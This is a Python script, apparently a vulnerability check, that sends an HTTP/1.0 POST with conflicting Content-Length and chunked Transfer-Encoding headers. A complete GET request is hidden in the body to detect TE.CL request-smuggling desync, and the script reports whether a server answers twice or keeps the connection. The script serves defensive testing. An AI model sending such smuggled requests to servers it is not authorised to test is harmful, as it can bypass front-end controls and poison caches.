#!/usr/bin/env python3
"""Does the server read the chunked body of an HTTP/1.0 request as a second request? (request smuggling)

Standard library only; needs nothing but the server running. Usage:

    python3 http10-te-smuggling.py HOST:PORT [--path /]

It sends ONE message: an HTTP/1.0 POST with `Connection: keep-alive`, `Content-Length` and
`Transfer-Encoding: chunked`, whose chunked body carries a complete `GET PATH`. RFC 9112 §6.1: "A server or
client that receives an HTTP/1.0 message containing a Transfer-Encoding header field MUST treat the message as
if the framing is faulty, even if a Content-Length is present, and close the connection after processing the
message." A front end that honours Transfer-Encoding forwards this as one request; a server that drops
Transfer-Encoding on HTTP/1.0 and frames by Content-Length answers the GET hidden in the body as a request of
its own (a TE.CL desync).

Exit 1 and "affected: ..." when the server answers more than once or keeps the connection after answering;
exit 0 and "not affected: ..." when it answers once (or refuses) and closes; exit 2 when it cannot tell.
"""

from __future__ import annotations

import argparse
import socket
import sys
import time

READ_TIMEOUT_S = 3.0  # a server that keeps the connection shows it by not closing within this


def smuggling_message(host: str, path: str) -> bytes:
    hidden = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Hidden: in-the-body\r\n\r\n".encode()
    chunk_size = b"%x\r\n" % len(hidden)
    body = chunk_size + hidden + b"\r\n0\r\n\r\n"
    head = (f"POST {path} HTTP/1.0\r\nHost: {host}\r\nConnection: keep-alive\r\n"
            f"Content-Length: {len(chunk_size)}\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
    return head + body


def status_lines(stream: bytes) -> list[str]:
    """The status line of every response in the stream, framed by Content-Length (enough for short answers)."""
    found: list[str] = []
    position = 0
    while True:
        end = stream.find(b"\r\n\r\n", position)
        if end < 0 or not stream.startswith(b"HTTP/", position):
            return found
        head = stream[position:end].decode("latin-1")
        found.append(head.split("\r\n", 1)[0])
        length = 0
        for line in head.split("\r\n")[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length" and value.strip().isdigit():
                length = int(value.strip())
        position = end + 4 + length


def exchange(address: tuple[str, int], message: bytes) -> tuple[bytes, bool]:
    """Everything the server sends, and whether it closed the connection within READ_TIMEOUT_S of going quiet."""
    stream = b""
    with socket.create_connection(address, timeout=READ_TIMEOUT_S) as connection:
        connection.sendall(message)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                data = connection.recv(65536)
            except TimeoutError:
                return stream, False
            except ConnectionResetError:
                return stream, True
            if not data:
                return stream, True
            stream += data
    return stream, False


def verdict(stream: bytes, closed: bool) -> tuple[int, str]:
    responses = status_lines(stream)
    if not responses:
        return (0, "not affected: no response, and the connection was closed") if closed else \
            (2, f"cannot tell: no response within {READ_TIMEOUT_S:g} s and the connection is still open")
    if len(responses) > 1:
        return 1, (f"affected: {len(responses)} responses to one message ({' | '.join(responses)}): the chunked "
                   "body was read as a request of its own")
    if not closed:
        return 1, (f"affected: one response ({responses[0]}), then the connection was kept open: RFC 9112 §6.1 "
                   "says close it after processing an HTTP/1.0 message with Transfer-Encoding")
    return 0, f"not affected: one response ({responses[0]}), then the connection was closed"


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("--path", default="/", help="the path of both requests (a route that answers GET)")
    args = parser.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    try:
        stream, closed = exchange((host, int(port)), smuggling_message(host, args.path))
    except (OSError, ValueError) as error:
        print(f"cannot tell: {error}")
        return 2
    code, text = verdict(stream, closed)
    print(text)
    return code


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
